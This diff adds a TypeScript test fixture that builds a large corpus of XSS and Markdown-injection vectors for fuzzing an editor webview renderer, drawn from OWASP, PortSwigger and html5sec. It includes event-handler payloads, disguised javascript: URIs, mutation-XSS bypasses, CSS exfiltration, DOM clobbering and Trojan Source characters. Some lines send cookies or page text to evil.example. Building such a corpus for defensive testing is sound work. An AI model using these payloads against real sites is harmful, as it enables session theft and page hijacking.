@@ -1,0 +1,543 @@
+import strings from 'big-list-of-naughty-strings';
+import { deep, hostile } from '../webview/hostile';
+
+/** Texts that try to run, load, send, cover or lead away, with the public collection they are taken from or modelled on. */
+export interface Family {
+  readonly name: string;
+  readonly source: string;
+  readonly vectors: readonly string[];
+}
+
+/** Elements with an event that needs nobody's help (PortSwigger's cheat sheet, "event handlers that do not require user interaction"). */
+const unaided: readonly (readonly [start: string, event: string])[] = [
+  ['img src=x', 'onerror'],
+  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
+  ['image src=x', 'onerror'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['body', 'onpageshow'],
+  ['body', 'onhashchange'],
+  ['iframe', 'onload'],
+  ['object data=x', 'onerror'],
+  ['embed src=x', 'onload'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['script src=x', 'onerror'],
+  ['style', 'onload'],
+  ['video src=x', 'onerror'],
+  ['video><source', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['audio autoplay src=x', 'onloadstart'],
+  ['track default src=x', 'onerror'],
+  ['input autofocus', 'onfocus'],
+  ['input type=image src=x', 'onerror'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocusin'],
+  ['button autofocus', 'onfocus'],
+  ['details open', 'ontoggle'],
+  ['marquee', 'onstart'],
+  ['svg><animate attributeName=x dur=1s', 'onbegin'],
+  ['svg><set attributeName=x', 'onbegin'],
+  ['svg><image href=x', 'onerror'],
+  ['xss style=animation-name:x', 'onanimationstart'],
+  ['xss tabindex=1 autofocus', 'onfocus'],
+  ['math><mi xlink:href=x', 'onload'],
+  ['frameset', 'onload'],
+  ['portal src=x', 'onload'],
+  ['dialog open', 'oncancel'],
+];
+
+/** Ways to write a handler (OWASP's filter evasion cheat sheet: quotes, separators, cases, broken ends). */
+const spellings: readonly ((start: string, event: string) => string)[] = [
+  (start, event) => `<${start} ${event}=alert(1)>`,
+  (start, event) => `<${start} ${event}="alert(1)">`,
+  (start, event) => `<${start} ${event}='alert(1)'/>`,
+  (start, event) => `<${start.toUpperCase()} ${event.toUpperCase()}=alert(1)>`,
+  (start, event) => `<${start.replaceAll(' ', '/')}/${event}=alert(1)//`,
+  (start, event) => `<${start}\n${event}\n=\n"alert(1)"\n>`,
+  (start, event) => `"><${start} ${event}=alert(1) x="`,
+  (start, event) => `<${start} ${event}=&#97;&#108;&#x65;rt&lpar;1&rpar;>`,
+];
+
+/** Names of handlers (PortSwigger's and html5sec's lists). */
+const events =
+  'onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onauxclick onbeforecopy onbeforecut onbeforeinput onbeforeprint onbeforetoggle onbeforeunload onblur oncanplay oncanplaythrough onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onended onformdata onfullscreenchange ongotpointercapture oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onloadeddata onloadedmetadata onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onreset onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onstalled onstorage onsubmit onsuspend ontimeupdate ontouchcancel ontouchend ontouchmove ontouchstart ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitmouseforceup onwheel'.split(
+    ' ',
+  );
+
+/** Addresses that run, read, reach the editor or the machine, or leave the page (PortSwigger's protocol list, html5sec, the editor's own). */
+const addresses = [
+  'javascript:alert(1)',
+  'vbscript:msgbox(1)',
+  'livescript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'file:///etc/passwd',
+  'file://evil.example/share/x',
+  'command:workbench.action.terminal.new',
+  'command:tollfree.deleteData',
+  'vscode://evil.extension/run?x=1',
+  'vscode-insiders://evil.extension',
+  'vscode-remote://ssh-remote+evil/home',
+  'vscode-file://vscode-app/etc/passwd',
+  'vscode-webview://x/index.html',
+  'private:x',
+  'blob:https://evil.example/1',
+  'filesystem:https://evil.example/temporary/x',
+  'view-source:https://evil.example',
+  'feed:javascript:alert(1)',
+  'jar:https://evil.example!/x',
+  'ms-msdt:/id%20PCWDiagnostic',
+  'search-ms:query=x&crumb=location:%5C%5Cevil.example',
+  'about:blank',
+  'chrome://settings',
+  'ws://evil.example',
+  'ftp://evil.example/x',
+  'tel:+123',
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  '/\\evil.example',
+  'https:evil.example',
+  'https://user:pass@evil.example/',
+  'https://bank.example@evil.example/',
+  'https://bank.example\\@evil.example/',
+  'https://bank.example%40evil.example/',
+  'https://b\u0430nk.example/',
+  'https://bank.example\u202E/moc.live',
+  'mailto:a@evil.example?attach=/etc/passwd',
+] as const;
+
+const first = 'javascript:alert(1)';
+
+function everyCharacter(text: string, write: (code: number) => string): string {
+  return Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('');
+}
+
+/** Ways to hide a scheme (OWASP: "embedded tab", "embedded newline", "decimal references without semicolons"…). */
+const disguises: readonly ((address: string) => string)[] = [
+  (address) => address,
+  (address) => address.replaceAll(/[a-z](?=[^a-z]|[a-z])/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
+  (address) => address.replace(/^(...)/, '$1\t'),
+  (address) => address.replace(/^(...)/, '$1\n'),
+  (address) => address.replace(/^(...)/, '$1\r\n'),
+  (address) => address.replace(/^(...)/, '$1\0'),
+  (address) => ` ${address}`,
+  (address) => `\u0001${address}`,
+  (address) => `\u00A0${address}`,
+  (address) => `\uFEFF${address}`,
+  (address) => `\u202E${address}`,
+  (address) => everyCharacter(address, (code) => `&#${code};`),
+  (address) => everyCharacter(address, (code) => `&#x${code.toString(16)};`),
+  (address) => everyCharacter(address, (code) => `&#${String(code).padStart(7, '0')}`),
+  (address) => address.replace(':', '&colon;'),
+  (address) => address.replace(/^(...)/, '$1&Tab;').replace(':', '&NewLine;:'),
+  (address) => address.replace(':', String.raw`\:`),
+  (address) => everyCharacter(address, (code) => `%${code.toString(16)}`),
+  (address) => address.replace(':', '%3A'),
+  (address) => address.replace(':', '&amp;colon;'),
+  (address) => address.replace(/^./, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)),
+];
+
+/** Where Markdown takes an address (CommonMark's sections on links, images, autolinks and definitions). */
+const linkForms: readonly ((address: string) => string)[] = [
+  (address) => `[a](${address})`,
+  (address) => `[a](<${address}>)`,
+  (address) => `[a](${address} "title")`,
+  (address) => `[a]\n\n[a]: ${address}`,
+  (address) => `[a][b]\n\n[b]:\n  <${address}>\n  'title'`,
+  (address) => `<${address}>`,
+  (address) => `![a](${address})`,
+  (address) => `[![a](${address})](${address})`,
+  (address) => `![a][b]\n\n> [b]: ${address}`,
+  (address) => `<a href="${address}">a</a>`,
+  (address) => `| [a](${address}) |\n|---|\n| ![a](<${address}>) |`,
+  (address) => `> - [a](\n> ${address})`,
+  (address) => `bare ${address} text`,
+];
+
+/** Elements that load, frame, send, redirect or change what addresses mean (html5sec; PortSwigger: "scriptless attacks"). */
+const elements = [
+  '<script src=https://evil.example/x.js></script>',
+  '<script type=module>import "https://evil.example/x.js"</script>',
+  '<script>fetch("https://evil.example/?"+document.body.innerText)</script>',
+  '<img src=https://evil.example/p.png>',
+  '<img srcset="https://evil.example/p.png 2x">',
+  '<picture><source srcset=https://evil.example/p.png><img></picture>',
+  '<iframe src=https://evil.example></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src=javascript:alert(1)></iframe>',
+  '<frameset><frame src=https://evil.example></frameset>',
+  '<object data=https://evil.example/x.swf></object>',
+  '<object type=text/html data=data:text/html,x></object>',
+  '<embed src=https://evil.example/x.swf>',
+  '<applet code=x archive=https://evil.example/x.jar></applet>',
+  '<video poster=https://evil.example/p.png src=https://evil.example/v.mp4 autoplay></video>',
+  '<audio src=https://evil.example/a.mp3 autoplay></audio>',
+  '<track src=https://evil.example/t.vtt default>',
+  '<input type=image src=https://evil.example/p.png>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<link rel=preload as=image href=https://evil.example/p.png>',
+  '<link rel=dns-prefetch href=//secret.evil.example>',
+  '<link rel=preconnect href=//evil.example>',
+  '<link rel=prefetch href=https://evil.example>',
+  '<link rel=modulepreload href=https://evil.example/x.js>',
+  '<link rel=icon href=https://evil.example/i.ico>',
+  '<link rel=manifest href=https://evil.example/m.json>',
+  '<base href=https://evil.example/>',
+  '<base target=_top>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<meta http-equiv=refresh content="0;url=data:text/html,x">',
+  '<meta http-equiv=Content-Security-Policy content="script-src *">',
+  '<meta name=referrer content=unsafe-url>',
+  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<form action=https://evil.example><input name=key value=1><button>Go</button></form>',
+  '<form id=f action=https://evil.example></form><button form=f formaction=javascript:alert(1)>Go</button>',
+  '<form><input type=submit formaction=https://evil.example value=Go></form>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<keygen autofocus onfocus=alert(1)>',
+  '<a href=https://evil.example ping=https://evil.example/ping>a</a>',
+  '<a href=https://evil.example target=_top>a</a>',
+  '<a href=https://evil.example download>a</a>',
+  '<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m>',
+  '<table background=https://evil.example/p.png><td background=https://evil.example/q.png>',
+  '<body background=https://evil.example/p.png>',
+  '<bgsound src=https://evil.example/a.mp3>',
+  '<layer src=https://evil.example></layer>',
+  '<xml src=https://evil.example id=x></xml>',
+  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=a onload=alert(1)>#a"/></svg>',
+  '<svg><image href=https://evil.example/p.png /></svg>',
+  '<svg><feImage href=https://evil.example/p.png /></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href=data:text/javascript,alert(1) /></svg>',
+  '<svg><a xlink:href=javascript:alert(1)><rect width=99 height=99 /></a></svg>',
+  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>a</text></a></svg>',
+  '<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>',
+  '<svg><style>@import "https://evil.example/x.css"</style></svg>',
+  '<math href=javascript:alert(1)>a</math>',
+  '<math><maction actiontype="statusline#https://evil.example" xlink:href=javascript:alert(1)>a</maction></math>',
+  '<portal src=https://evil.example></portal>',
+  '<fencedframe src=https://evil.example></fencedframe>',
+  '<dialog open>Your session has ended</dialog>',
+  '<div popover id=p>over</div><button popovertarget=p>a</button>',
+  '<template shadowrootmode=open><script>alert(1)</script></template>',
+  '<slot name=x onslotchange=alert(1)></slot>',
+  '<noscript><img src=x onerror=alert(1)></noscript>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<?xml-stylesheet href="https://evil.example/x.css"?>',
+  '<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x">]>&x;',
+  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
+  '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
+];
+
+/** Markup that changes its meaning when it is read a second time (published bypasses of sanitisers; html5sec, "mXSS"). */
+const mutations = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<p><svg><desc><p title="</desc></svg><img src onerror=alert(1)>">',
+  '<a><svg><title><a title="</title></svg><img src onerror=alert(1)>">',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp>',
+  '<textarea>&lt;/textarea&gt;</textarea><img src=x onerror=alert(1)>',
+  '<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>',
+  '<select><template><style></select><img src=x onerror=alert(1)></style></template>',
+  '<table><td><form><table><td></form><img src=x onerror=alert(1)>',
+  '<x/><title>&lt;/title&gt;&lt;img src=1 onerror=alert(1)&gt;',
+  '<svg><x><![CDATA[<]]>/x><img src=x onerror=alert(1)>',
+  '<a href="`"><img alt="` onerror=alert(1) src=x">',
+  '<div id="--!><img src=x onerror=alert(1)>"><!--',
+  '<!--!><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)-->',
+  '<![if x]><img src=x onerror=alert(1)><![endif]>',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<style><!--</style><script>alert(1)</script>',
+  '<script><!--\nalert(1)//--></script>',
+  '<script>\n//]]>\nalert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<script/x>alert(1)</script/x>',
+  '<img """><script>alert(1)</script>">',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<a href="x"onmouseover="alert(1)">a</a>',
+  '<svg><g/onload=alert(1)//<p>',
+  '<svg><a><a>'.repeat(40),
+  '<div>'.repeat(512),
+];
+
+/** Rules that cover, hide, read or fetch (OWASP: "STYLE", html5sec: "CSS"; exfiltration by attribute selectors). */
+const styles = [
+  'body{display:none}',
+  '*{position:fixed!important;inset:0;z-index:2147483647}',
+  '@import "https://evil.example/x.css";',
+  "@import'\\68ttps://evil.example/x.css';",
+  'body{background:url(https://evil.example/p.png)}',
+  'li{list-style-image:url(javascript:alert(1))}',
+  'input[value^="s"]{background:url(https://evil.example/s)}',
+  '@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}',
+  '@keyframes x{from{left:0}}*{animation-name:x}',
+  'x{width:expression(alert(1))}',
+  'x{-moz-binding:url(https://evil.example/x.xml#x)}',
+  'x{behavior:url(x.htc)}',
+  '@namespace url(https://evil.example);',
+  '.composer{visibility:hidden}[data-testid=switch-banner]{display:none}',
+  ':root{--vscode-foreground:transparent}',
+  '*::before{content:url(https://evil.example/p.png)}',
+  '*{cursor:url(https://evil.example/c.cur),auto}',
+  'html{filter:url(https://evil.example/f.svg#f)}',
+].flatMap((rule) => [
+  `<style>${rule}</style>`,
+  `<div style="${rule.replaceAll('"', "'")}">x</div>`,
+  `</style><style>${rule}`,
+  `<svg><style>${rule}</style></svg>`,
+]);
+
+/** Names that would take the place of the page's own (PortSwigger and html5sec: "DOM clobbering"; prototype pollution). */
+const clobbering = [
+  ...['root', 'body', 'acquireVsCodeApi', 'location', 'head', 'forms', 'getElementById', 'cookie', 'onload', 'document'].flatMap(
+    (name) => [
+      `<a id=${name}></a>`,
+      `<img name=${name}>`,
+      `<form id=${name}><input name=attributes><input name=parentNode></form>`,
+      `<iframe name=${name} srcdoc=x></iframe>`,
+    ],
+  ),
+  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'].flatMap((name) => [
+    `[${name}]`,
+    `[a][${name}]\n\n[${name}]: javascript:alert(1)`,
+    `[${name}]: https://evil.example\n\n[__proto__] [constructor]`,
+    `\`\`\`${name}\nx\n\`\`\``,
+    `&${name};`,
+    `[^${name}]\n\n[^${name}]: x`,
+  ]),
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)} #{alert(1)} <%= alert(1) %> {{alert(1)}} [[alert(1)]]",
+  '{"__proto__":{"polluted":1}}',
+];
+
+/** Attributes and tags that never end, to swallow what follows (PortSwigger: "dangling markup"). */
+const dangling = ['"', "'", '`', ''].flatMap((quote) => [
+  `<img src=${quote}https://evil.example/?`,
+  `<a href=${quote}https://evil.example/?`,
+  `<form action=${quote}https://evil.example/?`,
+  `<base target=${quote}`,
+  `<button formaction=${quote}https://evil.example/?`,
+  `<textarea name=${quote}`,
+  `<meta http-equiv=refresh content=${quote}0;url=https://evil.example/?`,
+  `<link rel=stylesheet href=${quote}https://evil.example/?`,
+  `[a](https://evil.example/?${quote}`,
+  `![a](https://evil.example/? ${quote}title`,
+  `<!-- ${quote}`,
+  `<style>@import ${quote}//evil.example/?`,
+]);
+
+/** Characters that hide, turn round, end or pile up (the list's "trick unicode", Unicode TR 36; Markdown's own rule for U+0000). */
+const characters = [
+  '\0',
+  '<scr\0ipt>alert(1)</scr\0ipt>',
+  '<img\0src=x onerror=alert(1)>',
+  '[a](java\0script:alert(1))',
+  '&#0;&#x0;&#128;&#xD800;&#x110000;&#99999999999;',
+  '\uD800',
+  'a\uDC00b\uD800',
+  '\uFEFF<script>alert(1)</script>',
+  '\u202E<script>alert(1)</script>\u202C',
+  '[\u202Emoc.knab//:sptth](https://evil.example)',
+  '[https://bank.example](https://evil.example "https://bank.example")',
+  '[a](https://evil.example "\u202Eelpmaxe.knab")',
+  '[a](https://evil.example "\n\nhttps://bank.example\n")',
+  '<https://b\u0430nk.example>',
+  'https://bank.example\u2044login.evil.example',
+  'https://bank.example\u3002evil.example',
+  '\u2066\u2067\u2068\u202A\u202B\u202D\u202E never closed',
+  '`\u202E code \u2066` after',
+  '```js\nif (a\u202E /* \u2066 */ b) {}\n```',
+  'a\u200Bb\u200Cc\u200Dd\u2060e',
+  '\u2028alert(1)\u2029',
+  '\u0085\u000B\u000C\u001C',
+  `Z${'\u0301\u0322\u0337'.repeat(200)}`,
+  `${'\u0489'.repeat(500)}`,
+  '\u{E0001}\u{E0041}\u{E007F}',
+  '＜script＞alert(1)＜/script＞',
+  '\u003cscript\u003ealert(1)\u003c/script\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E',
+  '\\u003cscript\\u003ealert(1)',
+  '¼script¾alert(1)¼/script¾',
+];
+
+/** From OWASP's filter evasion cheat sheet, as far as no other family has them. */
+const evasion = [
+  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
+  '<img src="javascript:alert(1);">',
+  '<img src=JaVaScRiPt:alert(1)>',
+  '<img src=`javascript:alert("x, \'y\'")`>',
+  '<img src=javascript:alert(String.fromCharCode(88,83,83))>',
+  '<img src="jav&#x0A;ascript:alert(1);">',
+  '<img src=" &#14; javascript:alert(1);">',
+  '<img dynsrc="javascript:alert(1)">',
+  '<img lowsrc="javascript:alert(1)">',
+  '<input type="image" src="javascript:alert(1);">',
+  '<body background="javascript:alert(1)">',
+  '<br size="&{alert(1)}">',
+  '<ul><li>x<style>li {list-style-image: url("javascript:alert(1)");}</style>',
+  '<table><td background="javascript:alert(1)">',
+  '<div style="background-image: url(javascript:alert(1))">',
+  "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061'\\0029\">",
+  '<div style="width: expression(alert(1));">',
+  "<img style=\"xss:expr/*x*/ession(alert(1))\">",
+  '<!--#exec cmd="/bin/echo x"-->',
+  '<? echo("<script>alert(1)</script>"); ?>',
+  '<script>document.location="https://evil.example/?"+document.cookie</script>',
+  '<script a=">" src="https://evil.example/x.js"></script>',
+  '<script =">" src="https://evil.example/x.js"></script>',
+  '<script a=`>` src="https://evil.example/x.js"></script>',
+  '<script>document.write("<SCRI");</script>PT src="https://evil.example/x.js"></script>',
+  '<a href="https://0x42.0x0000066.0x7.0x93/">x</a>',
+  '<a href="h\ntt\tp://6\t6.000146.0x7.147/">x</a>',
+  '<a href="//evil.example/">x</a>',
+  '<a href="javascript:document.location=\'https://evil.example/\'">x</a>',
+  '\\";alert(1);//',
+  '</title><script>alert(1);</script>',
+  '</textarea><script>alert(1)</script>',
+  '<svg/onload=alert`1`>',
+  '<script>window.name="x";document.title="x";location.hash="x"</script>',
+  '<script>eval.call`${"alert\\x281\\x29"}`</script>',
+  '<script>import("https://evil.example/x.js")</script>',
+  '<script>new WebSocket("wss://evil.example")</script>',
+  '<script>navigator.sendBeacon("https://evil.example")</script>',
+  '<script>new Worker("data:text/javascript,x")</script>',
+  '<script>top.postMessage("x","*");open("https://evil.example")</script>',
+  '<a onmouseover=alert(1)>x</a>',
+  '<a onmouseover="alert(document.cookie)"\\>x</a\\>',
+];
+
+/** What stands for all others where one text is put into many places. */
+export const representative: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<iframe src=javascript:alert(1)>',
+  '<style>*{position:fixed;inset:0}</style>',
+  '<div style="position:fixed;inset:0;z-index:9">x</div>',
+  '<base href=//evil.example>',
+  '<meta http-equiv=refresh content=0>',
+  '<form action=//evil.example><button>x',
+  '<a href=javascript:alert(1)>x</a>',
+  '[x](javascript:alert(1))',
+  '![x](https://evil.example/p.png?q=1)',
+  '[x](command:workbench.action.quit)',
+  '<javascript:alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "' onfocus=alert(1) autofocus='",
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '\u202E<b>\0</b>',
+];
+
+/** Places of Markdown in which a text may be read differently (CommonMark's and GitHub's blocks and spans). */
+const places: readonly ((text: string) => string)[] = [
+  (text) => `\`\`\`\n${text}\n\`\`\``,
+  (text) => `\`\`\`html\n${text}\n`,
+  (text) => `~~~${text.replaceAll('\n', ' ')}\nx\n~~~`,
+  (text) => `\`\`\`js ${text.replaceAll(/[`\n]/g, ' ')}\nx\n\`\`\``,
+  (text) => `    ${text}`,
+  (text) => `\`${text}\` \`\` ${text} \`\``,
+  (text) => `# ${text}`,
+  (text) => `${text}\n===`,
+  (text) => `> ${text}`,
+  (text) => `- ${text}\n  1. [ ] ${text}`,
+  (text) => `| ${text} | b |\n|:-:|---|\n| a | ${text} |`,
+  (text) => `**${text}** *${text}* ~~${text}~~`,
+  (text) => `[${text}](https://ok.example)`,
+  (text) => `![${text}](https://ok.example/p.png)`,
+  (text) => `[a](https://ok.example "${text}")`,
+  (text) => `[a](https://ok.example/${text})`,
+  (text) => `<https://ok.example/${text}>`,
+  (text) => `[a]\n\n[a]: https://ok.example '${text}'`,
+  (text) => `[${text}]: https://ok.example\n\n[${text}]`,
+  (text) => `[^1]\n\n[^1]: ${text}`,
+  (text) => `<!-- ${text} -->`,
+  (text) => `<![CDATA[${text}]]>`,
+  (text) => `<div>\n\n${text}\n\n</div>`,
+  (text) => `<details><summary>${text}</summary>\n${text}\n</details>`,
+  (text) => `$$${text}$$ \\(${text}\\)`,
+  (text) => `\\${text}`,
+  (text) => `a\r${text}\r\n`,
+];
+
+/** The list writes some characters as `\x0B`, byte by byte; here they are the characters. */
+function withBytes(text: string): string {
+  return text.replaceAll(/(?:\\x[\dA-F]{2})+/g, (bytes) => Buffer.from(bytes.replaceAll('\\x', ''), 'hex').toString());
+}
+
+function unique(vectors: readonly string[]): readonly string[] {
+  return [...new Set(vectors)];
+}
+
+/** The whole collection. Short texts, so that each can be cut at every place; the long ones are in `long`. */
+export const families: readonly Family[] = [
+  {
+    name: 'naughty strings',
+    source: 'Big List of Naughty Strings, all sections, script injection also with its bytes as characters',
+    vectors: unique([...strings, ...strings.map(withBytes)].filter((text) => text !== '')),
+  },
+  {
+    name: 'handlers that need nobody',
+    source: 'PortSwigger XSS cheat sheet: event handlers without user interaction; OWASP filter evasion: spellings',
+    vectors: unaided.flatMap(([start, event]) => spellings.map((spell) => spell(start, event))),
+  },
+  {
+    name: 'all handlers',
+    source: 'PortSwigger XSS cheat sheet and html5sec: lists of event handlers',
+    vectors: events.map((event) => `<x ${event}=alert(1) contenteditable tabindex=1 draggable=true>x</x>`),
+  },
+  {
+    name: 'addresses in every form',
+    source: 'PortSwigger XSS cheat sheet: protocols; CommonMark: forms of links; schemes of VS Code',
+    vectors: addresses.flatMap((address) => linkForms.map((form) => form(address))),
+  },
+  {
+    name: 'disguised addresses',
+    source: 'OWASP XSS filter evasion cheat sheet: encodings of javascript:; CommonMark: references and escapes',
+    vectors: unique(
+      [first, 'file:///etc/passwd', 'command:x'].flatMap((address) =>
+        disguises.flatMap((disguise) => linkForms.map((form) => form(disguise(address)))),
+      ),
+    ),
+  },
+  { name: 'elements', source: 'html5sec; PortSwigger XSS cheat sheet: scriptless attacks', vectors: elements },
+  { name: 'mutations', source: 'published bypasses of HTML sanitisers (mXSS); html5sec', vectors: mutations },
+  { name: 'styles', source: 'OWASP XSS filter evasion cheat sheet: STYLE; html5sec: CSS', vectors: styles },
+  { name: 'clobbering', source: 'PortSwigger: DOM clobbering, prototype pollution, templates', vectors: clobbering },
+  { name: 'dangling markup', source: 'PortSwigger: dangling markup injection', vectors: dangling },
+  { name: 'characters', source: 'Unicode TR 36 and TR 39; Trojan Source; CommonMark on U+0000', vectors: characters },
+  { name: 'evasion', source: 'OWASP XSS filter evasion cheat sheet', vectors: evasion },
+  { name: 'answers', source: 'our own, for this page', vectors: hostile },
+  {
+    name: 'in every place',
+    source: 'the texts of `representative` in every block and span of CommonMark and GitHub’s Markdown',
+    vectors: representative.flatMap((text) => places.map((place) => place(text))),
+  },
+];
+
+export const vectors: readonly string[] = unique(families.flatMap((family) => family.vectors));
+
+/** Very long, or deeply nested. */
+export const long: readonly string[] = [
+  ...deep.map(({ text }) => text),
+  '<img src=x onerror=alert(1)>'.repeat(2000),
+  '[x](javascript:alert(1)) '.repeat(2000),
+  `[x](https://evil.example/${'a'.repeat(60_000)})`,
+  `[${'a'.repeat(30_000)}](javascript:${'a'.repeat(30_000)})`,
+  `\`\`\`${'<script>'.repeat(4000)}\n${'</script>'.repeat(4000)}\n\`\`\``,
+  `<${'a'.repeat(50_000)} onclick=alert(1)>`,
+  `&${'a'.repeat(50_000)};&#${'9'.repeat(50_000)};`,
+];
